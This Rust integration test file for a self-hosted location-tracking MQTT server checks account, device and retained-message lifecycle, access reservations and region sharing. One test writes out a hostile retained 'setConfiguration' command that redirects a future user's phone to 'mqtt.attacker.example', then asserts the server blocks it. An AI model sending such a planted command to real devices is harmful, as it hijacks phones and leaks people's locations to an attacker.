//! Who owns what, and what exists when: accounts and devices are usable the moment the
//! command that made them returns, the `owntracks/` and IoT device trees are reserved to
//! accounts and devices that exist, their retained messages go with them, device ids cannot
//! take the files' usernames, deactivated owners' devices are revoked, and regions need a
//! history share.

use crate::support::raw::{self, Conn};
use crate::support::*;
use serde_json::{json, Value};
use std::thread;
use std::time::Duration;

const WAIT: Duration = Duration::from_secs(10);

pub fn location(tst: i64) -> String {
    json!({"_type": "location", "lat": 52.5, "lon": 13.4, "tst": tst, "tid": "ph"}).to_string()
}

/// Publishes on `conn` (QoS 1, `retain` as given) and waits for its PUBACK; returns the
/// PUBACK's body.
pub fn publish_acked(conn: &mut Conn, level: u8, topic: &str, payload: &[u8], retain: bool) {
    let mut packet = raw::publish(level, topic, payload, 1, 7, false);
    if retain {
        packet[0] |= 0x01;
    }
    conn.send(&packet).unwrap();
    loop {
        let (first, body) = conn
            .read_packet(WAIT)
            .unwrap_or_else(|| panic!("no PUBACK for {topic}"));
        if first & 0xF0 == 0x40 {
            assert_eq!(&body[..2], &7u16.to_be_bytes(), "PUBACK of another packet");
            return;
        }
    }
}

/// Subscribes (`level` 4 or 5) and returns the SUBACK's reason code.
fn subscribe_code(conn: &mut Conn, level: u8, filter: &str) -> u8 {
    conn.send(&raw::subscribe(level, 3, filter, 1)).unwrap();
    loop {
        let (first, body) = conn.read_packet(WAIT).expect("SUBACK");
        if first == 0x90 {
            return *body.last().unwrap();
        }
    }
}

/// The PUBLISH packets received on `conn` within `wait`: (topic, payload).
fn received(conn: &mut Conn, level: u8, wait: Duration) -> Vec<(String, Vec<u8>)> {
    let mut out = Vec::new();
    while let Some((first, body)) = conn.read_packet(wait) {
        if first & 0xF0 != 0x30 {
            continue;
        }
        let len = u16::from_be_bytes([body[0], body[1]]) as usize;
        let topic = String::from_utf8_lossy(&body[2..2 + len]).into_owned();
        let mut rest = 2 + len;
        if first & 0x06 != 0 {
            rest += 2;
            let id = [body[2 + len], body[3 + len]];
            // Acknowledge QoS 1 so that nothing is resent.
            let _ = conn.send(&raw::packet(0x40, &id));
        }
        if level == 5 {
            rest += 1 + body[rest] as usize;
        }
        out.push((topic, body[rest..].to_vec()));
    }
    out
}

fn cli_ok(server: &Server, args: &[&str]) -> String {
    let out = server.cli(args, WAIT);
    assert!(out.success(), "{args:?}: {}", out.describe());
    out.stdout.clone()
}

// ---------------------------------------------------------------------------------------------
// Usable at once
// ---------------------------------------------------------------------------------------------

#[test]
fn user_added_by_cli_publishes_at_once_and_every_acknowledged_location_is_stored() {
    let server = Server::start();
    let admin = server.admin_api();
    for round in 0..4i64 {
        let name = format!("newcomer{round}");
        let password = user_password(&name);
        cli_ok(&server, &["user", "add", &name, "--password", &password]);
        // At once: before the server's next poll of account changes.
        let mut phone = Conn::login(server.mqtt_port, 4, &format!("{name}-p"), &name, &password)
            .unwrap_or_else(|code| panic!("{name} refused: {code}\n{}", server.log()));
        let topic = format!("owntracks/{name}/phone");
        publish_acked(
            &mut phone,
            4,
            &topic,
            location(1_700_000_000 + round).as_bytes(),
            false,
        );
        let (status, stored) = admin.get(&format!("/api/locations/?user={name}&device=phone"));
        assert_eq!(status, 200, "{stored}");
        assert_eq!(
            stored.as_array().map(Vec::len),
            Some(1),
            "acknowledged but not stored (round {round}): {stored}\n{}",
            server.log()
        );
    }
}

#[test]
fn user_added_by_cli_is_accepted_by_http_mode_at_once() {
    let server = Server::start();
    let client = reqwest::blocking::Client::new();
    for round in 0..3i64 {
        let name = format!("walker{round}");
        let password = user_password(&name);
        cli_ok(&server, &["user", "add", &name, "--password", &password]);
        let response = client
            .post(format!("http://127.0.0.1:{}/pub", server.http_port))
            .basic_auth(&name, Some(&password))
            .header("X-Limit-D", "phone")
            .body(location(1_700_000_000 + round))
            .send()
            .unwrap();
        assert_eq!(response.status(), 200, "round {round}\n{}", server.log());
    }
}

#[test]
fn device_added_by_cli_logs_in_at_once() {
    let server = Server::start();
    let admin = server.admin_api();
    add_user(&server, &admin, "alice", &user_password("alice"));
    let alice = login(&server, "alice", &user_password("alice"));
    for round in 0..3 {
        let id = format!("probe-{round}");
        let out = cli_ok(&server, &["device", "add", &id, "--owner", "alice"]);
        let password = out
            .lines()
            .find_map(|l| l.strip_prefix("password: "))
            .expect("the CLI prints the password")
            .trim()
            .to_owned();
        let mut device = Conn::login(server.mqtt_port, 4, &id, &id, &password)
            .unwrap_or_else(|code| panic!("round {round}: {code}\n{}", server.log()));
        // Logged in as the device (not as some client named like it): its telemetry is stored.
        let topic = format!("iot/devices/{id}/telemetry/temp");
        publish_acked(&mut device, 4, &topic, b"21.5", false);
        let (status, rows) = alice.get(&format!("/api/iot/devices/{id}/telemetry/"));
        assert_eq!(status, 200, "{rows}");
        assert_eq!(
            rows["count"],
            1,
            "round {round}: telemetry not stored: {rows}\n{}",
            server.log()
        );
    }
}

// ---------------------------------------------------------------------------------------------
// Reserved trees and retained messages
// ---------------------------------------------------------------------------------------------

#[test]
fn nobody_plants_commands_for_an_account_that_does_not_exist_yet() {
    let server = Server::start();
    let admin = server.admin_api();
    add_user(&server, &admin, "bob", &user_password("bob"));
    let mut bob = Conn::login(server.mqtt_port, 5, "bob-p", "bob", &user_password("bob")).unwrap();
    let planted = r#"{"_type":"cmd","action":"setConfiguration","configuration":{"host":"mqtt.attacker.example"}}"#;
    publish_acked(
        &mut bob,
        5,
        "owntracks/dave/phone/cmd",
        planted.as_bytes(),
        true,
    );
    assert_eq!(
        subscribe_code(&mut bob, 5, "owntracks/dave/#"),
        0x87,
        "another's future namespace is not subscribable"
    );
    add_user(&server, &admin, "dave", &user_password("dave"));
    let mut dave = Conn::login(
        server.mqtt_port,
        5,
        "dave-p",
        "dave",
        &user_password("dave"),
    )
    .unwrap();
    assert_eq!(subscribe_code(&mut dave, 5, "owntracks/dave/#"), 1);
    let got = received(&mut dave, 5, Duration::from_millis(1500));
    assert!(
        got.is_empty(),
        "dave's phone received a planted message: {got:?}"
    );
}

#[test]
fn retained_messages_of_a_deleted_user_are_cleared() {
    let server = Server::start();
    let admin = server.admin_api();
    let mallory_id = add_user(&server, &admin, "mallory", &user_password("mallory"));
    add_user(&server, &admin, "bob", &user_password("bob"));
    let mut phone = Conn::login(
        server.mqtt_port,
        4,
        "mallory-p",
        "mallory",
        &user_password("mallory"),
    )
    .unwrap();
    publish_acked(
        &mut phone,
        4,
        "owntracks/mallory/phone",
        location(1_700_000_000).as_bytes(),
        true,
    );
    let card = r#"{"_type":"card","name":"Mallory"}"#;
    publish_acked(
        &mut phone,
        4,
        "owntracks/mallory/phone/info",
        card.as_bytes(),
        true,
    );
    phone.shutdown();
    let (status, body) = admin.delete(&format!("/api/admin/users/{mallory_id}/hard-delete/"));
    assert_eq!(status, 200, "{body}");

    // Nobody reads them on: not bob through `owntracks/#`, not the admin, and not a new
    // account with the same name.
    let mut bob = Conn::login(server.mqtt_port, 4, "bob-p", "bob", &user_password("bob")).unwrap();
    subscribe_code(&mut bob, 4, "owntracks/#");
    let admin_password = server.admin_password();
    let mut root = Conn::login(server.mqtt_port, 4, "root", "admin", &admin_password).unwrap();
    subscribe_code(&mut root, 4, "owntracks/#");
    add_user(&server, &admin, "mallory", &user_password("mallory"));
    let mut heir = Conn::login(
        server.mqtt_port,
        4,
        "heir",
        "mallory",
        &user_password("mallory"),
    )
    .unwrap();
    subscribe_code(&mut heir, 4, "owntracks/mallory/#");
    for (who, conn) in [
        ("bob", &mut bob),
        ("admin", &mut root),
        ("new mallory", &mut heir),
    ] {
        let got = received(conn, 4, Duration::from_millis(800));
        assert!(got.is_empty(), "{who} received {got:?}");
    }
}

#[test]
fn a_removed_devices_retained_config_is_not_inherited_by_the_next_owner_of_its_id() {
    let server = Server::start();
    let admin = server.admin_api();
    add_user(&server, &admin, "alice", &user_password("alice"));
    add_user(&server, &admin, "bob", &user_password("bob"));
    let alice = login(&server, "alice", &user_password("alice"));
    let bob = login(&server, "bob", &user_password("bob"));
    let (status, body) = alice.post("/api/iot/devices/", json!({ "device_id": "gw-1" }));
    assert_eq!(status, 201, "{body}");
    let secrets = json!({ "wifi_psk": "alice-home-wifi-password", "api_key": "AK-123" });
    let (status, body) = alice.call("PUT", "/api/iot/devices/gw-1/config/", Some(secrets));
    assert_eq!(status, 200, "{body}");
    let (status, body) = alice.delete("/api/iot/devices/gw-1/");
    assert_eq!(status, 204, "{body}");

    let (status, body) = bob.post("/api/iot/devices/", json!({ "device_id": "gw-1" }));
    assert_eq!(status, 201, "{body}");
    let (status, config) = bob.get("/api/iot/devices/gw-1/config/");
    assert_eq!(status, 200, "{config}");
    assert_eq!(
        config["config"],
        Value::Null,
        "alice's secrets passed on: {config}"
    );
}

#[test]
fn a_device_removed_by_the_cli_loses_its_retained_messages() {
    let server = Server::start();
    let admin = server.admin_api();
    add_user(&server, &admin, "alice", &user_password("alice"));
    let alice = login(&server, "alice", &user_password("alice"));
    let (status, body) = alice.post("/api/iot/devices/", json!({ "device_id": "gw-2" }));
    assert_eq!(status, 201, "{body}");
    let secrets = json!({ "wifi_psk": "alice-home-wifi-password" });
    let (status, body) = alice.call("PUT", "/api/iot/devices/gw-2/config/", Some(secrets));
    assert_eq!(status, 200, "{body}");
    cli_ok(&server, &["device", "remove", "gw-2"]);
    // The server learns of another process's change at its next poll (every second).
    thread::sleep(Duration::from_millis(2500));
    let admin_password = server.admin_password();
    let mut root = Conn::login(server.mqtt_port, 4, "root", "admin", &admin_password).unwrap();
    subscribe_code(&mut root, 4, "iot/#");
    let got = received(&mut root, 4, Duration::from_millis(800));
    assert!(got.is_empty(), "still retained: {got:?}");
}

// ---------------------------------------------------------------------------------------------
// Device ids, deactivated owners
// ---------------------------------------------------------------------------------------------

#[test]
fn device_ids_cannot_take_usernames_of_the_password_or_acl_file() {
    let files = AccessFilesForTest::new(&[("backend", "backend password 123")]);
    let server = Server::with_config(&files.config("user reporter\ntopic read reports/#\n"));
    let admin = server.admin_api();
    add_user(&server, &admin, "bob", &user_password("bob"));
    let bob = login(&server, "bob", &user_password("bob"));
    assert!(Conn::login(server.mqtt_port, 4, "be", "backend", "backend password 123").is_ok());
    for taken in ["backend", "reporter", "bob", "admin"] {
        let (status, body) = bob.post("/api/iot/devices/", json!({ "device_id": taken }));
        assert_eq!(status, 409, "{taken}: {body}");
        assert_eq!(
            body["error"].as_str().unwrap_or_default(),
            format!("the device id {taken:?} is not available; choose another"),
            "one message whatever holds the name"
        );
    }
    // The command line refuses too.
    let out = server.cli(&["device", "add", "backend", "--owner", "bob"], WAIT);
    assert!(!out.success(), "{}", out.describe());
    assert!(Conn::login(server.mqtt_port, 4, "be", "backend", "backend password 123").is_ok());
}

#[test]
fn deactivating_a_user_revokes_their_devices() {
    let server = Server::start();
    let admin = server.admin_api();
    let alice_id = add_user(&server, &admin, "alice", &user_password("alice"));
    let alice = login(&server, "alice", &user_password("alice"));
    let (status, device) = alice.post("/api/iot/devices/", json!({ "device_id": "alice-cam" }));
    assert_eq!(status, 201, "{device}");
    let password = device["password"].as_str().unwrap().to_owned();
    let mut cam = Conn::login(server.mqtt_port, 4, "alice-cam", "alice-cam", &password).unwrap();

    let (status, body) = admin.delete(&format!("/api/admin/users/{alice_id}/"));
    assert_eq!(status, 200, "{body}");
    assert!(cam.expect_close(WAIT).is_ok(), "the camera stays connected");
    assert_eq!(
        Conn::login(server.mqtt_port, 4, "alice-cam", "alice-cam", &password).err(),
        Some(4),
        "a revoked device logs in"
    );
    // Reactivating the owner brings the device back.
    let (status, body) = admin.post(
        &format!("/api/admin/users/{alice_id}/reactivate/"),
        json!({}),
    );
    assert_eq!(status, 200, "{body}");
    assert!(Conn::login(server.mqtt_port, 4, "alice-cam", "alice-cam", &password).is_ok());
}

// ---------------------------------------------------------------------------------------------
// Regions
// ---------------------------------------------------------------------------------------------

#[test]
fn regions_are_shown_to_history_sharers_only() {
    let server = Server::start();
    let admin = server.admin_api();
    for name in ["alice", "bob", "carol"] {
        add_user(&server, &admin, name, &user_password(name));
    }
    let alice = login(&server, "alice", &user_password("alice"));
    let (status, body) = alice.post("/api/account/shares/", json!({ "username": "bob" }));
    assert_eq!(status, 201, "{body}");
    let (status, body) = alice.post(
        "/api/account/shares/",
        json!({ "username": "carol", "history": true }),
    );
    assert_eq!(status, 201, "{body}");
    let mut phone = Conn::login(
        server.mqtt_port,
        4,
        "alice-p",
        "alice",
        &user_password("alice"),
    )
    .unwrap();
    let regions = json!({"_type": "waypoints", "waypoints": [
        {"_type": "waypoint", "desc": "Home", "lat": 52.5163, "lon": 13.3777, "rad": 50, "tst": 1_700_000_000}
    ]});
    publish_acked(
        &mut phone,
        4,
        "owntracks/alice/phone/waypoints",
        regions.to_string().as_bytes(),
        false,
    );
    let count = |api: &Api| {
        let (status, body) = api.get("/api/waypoints/");
        assert_eq!(status, 200, "{body}");
        body.as_array().unwrap().len()
    };
    assert_eq!(count(&alice), 1, "the owner sees her regions");
    assert_eq!(count(&login(&server, "carol", &user_password("carol"))), 1);
    assert_eq!(
        count(&login(&server, "bob", &user_password("bob"))),
        0,
        "a live-only share shows no regions"
    );
}

/// A password file (argon2id hashes, a format Mosquitto 2.1 reads too) and an ACL file for a
/// test server.
struct AccessFilesForTest {
    dir: tempfile::TempDir,
}

impl AccessFilesForTest {
    fn new(users: &[(&str, &str)]) -> AccessFilesForTest {
        let dir = tempfile::tempdir().unwrap();
        let text: String = users
            .iter()
            .map(|(user, password)| {
                let hash = mytracks_access::password::hash_argon2id(password.as_bytes());
                format!("{user}:{hash}\n")
            })
            .collect();
        write_file(dir.path(), "passwd", &text);
        AccessFilesForTest { dir }
    }

    fn config(&self, acl: &str) -> String {
        let acl_path = write_file(self.dir.path(), "acl", acl);
        format!(
            "[mqtt]\npassword_file = {:?}\nacl_file = {:?}\n",
            self.dir.path().join("passwd"),
            acl_path
        )
    }
}
